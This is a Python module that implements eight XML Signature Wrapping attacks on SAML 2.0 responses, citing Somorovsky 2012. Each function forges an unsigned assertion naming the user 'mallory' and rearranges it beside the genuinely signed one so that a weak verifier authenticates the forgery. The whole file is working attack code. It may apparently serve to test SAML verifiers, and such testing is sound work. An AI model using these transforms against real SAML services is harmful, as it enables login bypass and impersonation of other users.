"""Eight ways to wrap a signed answer so that a careless reader reads another (Somorovsky 2012)."""

import copy

from lxml import etree

P = "{urn:oasis:names:tc:SAML:2.0:protocol}"
A = "{urn:oasis:names:tc:SAML:2.0:assertion}"
DS = "{http://www.w3.org/2000/09/xmldsig#}"
EVIL = "mallory"


def _signature(element):
    return element.find(f"{DS}Signature")


def _renamed(element):
    """Return a copy that speaks of somebody else, under an ID of its own, unsigned."""
    evil = copy.deepcopy(element)
    for name in evil.iter(f"{A}NameID"):
        name.text = EVIL
    evil.set("ID", "_evil")
    for found in list(evil.iter(f"{DS}Signature")):
        found.getparent().remove(found)
    return evil


def _unsigned(element):
    bare = copy.deepcopy(element)
    bare.remove(_signature(bare))
    return bare


def xsw1(response):
    """The signed response hides in the signature of another response."""
    evil, signature = _renamed(response), copy.deepcopy(_signature(response))
    for inner in evil.iter(f"{A}Assertion"):
        inner.set("ID", "_evil-assertion")
    signature.append(_unsigned(response))
    evil.insert(1, signature)
    return evil


def xsw2(response):
    """The signed response stands before its signature, in another response."""
    evil, signature = _renamed(response), copy.deepcopy(_signature(response))
    for inner in evil.iter(f"{A}Assertion"):
        inner.set("ID", "_evil-assertion")
    evil.insert(1, _unsigned(response))
    evil.insert(2, signature)
    return evil


def xsw3(response):
    """Another assertion stands before the signed one."""
    assertion = response.find(f"{A}Assertion")
    assertion.addprevious(_renamed(assertion))
    return response


def xsw4(response):
    """The signed assertion is a child of another."""
    assertion = response.find(f"{A}Assertion")
    evil = _renamed(assertion)
    response.replace(assertion, evil)
    evil.append(assertion)
    return response


def xsw5(response):
    """Another assertion bears the signature, whose own stands behind it."""
    assertion = response.find(f"{A}Assertion")
    evil, signature = _renamed(assertion), copy.deepcopy(_signature(assertion))
    evil.insert(1, signature)
    response.replace(assertion, evil)
    response.append(_unsigned(assertion))
    return response


def xsw6(response):
    """Another assertion bears the signature, in which its own stands."""
    assertion = response.find(f"{A}Assertion")
    evil, signature = _renamed(assertion), copy.deepcopy(_signature(assertion))
    signature.append(_unsigned(assertion))
    evil.insert(1, signature)
    response.replace(assertion, evil)
    return response


def xsw7(response):
    """Another assertion, of the same ID, stands among the extensions."""
    assertion = response.find(f"{A}Assertion")
    extensions = etree.Element(f"{P}Extensions")
    evil = _renamed(assertion)
    evil.set("ID", assertion.get("ID"))
    extensions.append(evil)
    assertion.addprevious(extensions)
    return response


def xsw8(response):
    """The signed assertion stands in an object of the signature that another bears."""
    assertion = response.find(f"{A}Assertion")
    evil, signature = _renamed(assertion), copy.deepcopy(_signature(assertion))
    held = etree.SubElement(signature, f"{DS}Object")
    held.append(_unsigned(assertion))
    evil.insert(1, signature)
    response.replace(assertion, evil)
    return response


ON_RESPONSES = (xsw1, xsw2)
ON_ASSERTIONS = (xsw3, xsw4, xsw5, xsw6, xsw7, xsw8)
